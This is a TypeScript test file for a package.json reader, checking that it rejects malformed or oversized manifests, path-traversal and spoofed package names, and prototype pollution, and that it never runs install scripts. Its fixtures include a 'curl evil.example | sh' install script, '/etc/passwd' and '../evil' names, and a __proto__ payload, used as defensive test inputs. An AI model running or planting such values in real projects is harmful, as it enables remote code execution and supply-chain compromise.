import { describe, expect, it } from 'vitest';
import { readPackageJson } from './read-package-json.ts';

const read = (text: string) => readPackageJson(new Map([['package.json', Buffer.from(text)]]));
const refusal = (text: string) => {
  try {
    read(text);
  } catch (error) {
    return error;
  }
  return null;
};

describe('package.json', () => {
  it('a package.json that is not there, or no JSON, is refused', () => {
    expect(() => readPackageJson(new Map())).toThrow(expect.objectContaining({ code: 'source.no_package_json' }));
    for (const text of ['', '[]', '"x"', 'null', '{"name": }', '{\n  "dependencies": [\n']) {
      expect(refusal(text), text).toMatchObject({ code: 'source.bad_package_json', data: { file: 'package.json' } });
    }
  });

  it('a package.json that is larger than any project needs is refused before it is read', () => {
    expect(refusal(JSON.stringify({ description: 'x'.repeat(600_000) }))).toMatchObject({
      code: 'source.bad_package_json',
      detail: 'package.json is larger than 512 KB.',
    });
  });

  it.each(['../evil', '/etc/passwd', '.hidden', 'a/b/c', '@scope', '@/x', 'a b', 'a\u202eb', 'x'.repeat(215)])(
    'a package.json with %s for a package name is refused',
    (name) => {
      for (const field of ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies']) {
        const text = JSON.stringify({ [field]: { [name]: '1.0.0' } });
        expect(refusal(text), field).toMatchObject({ code: 'source.bad_package_json' });
      }
    },
  );

  it.each([
    'packageManager',
    'workspaces',
    'overrides',
    'resolutions',
    'pnpm',
    'bundleDependencies',
    'bundledDependencies',
  ])('the field %s of a package.json is ignored, with a note', (field) => {
    const { wanted, notes } = read(JSON.stringify({ [field]: { a: 'npm:evil@1' }, dependencies: { a: '^1.0.0' } }));
    expect([...wanted]).toEqual([['a', '^1.0.0']]);
    expect(notes).toEqual([`package.json: ${field} is not followed`]);
  });

  it.each(['preinstall', 'install', 'postinstall', 'prepare'])('a %s script is not run, but reported', (script) => {
    const { notes } = read(JSON.stringify({ scripts: { [script]: 'curl evil.example | sh' } }));
    expect(notes).toEqual(['package.json: install scripts are never run']);
  });

  it('a package.json that names __proto__ changes no prototype', () => {
    read('{"__proto__": {"polluted": true}, "dependencies": {"a": "1.0.0"}}');
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined(); // an empty object has no such field
  });
});
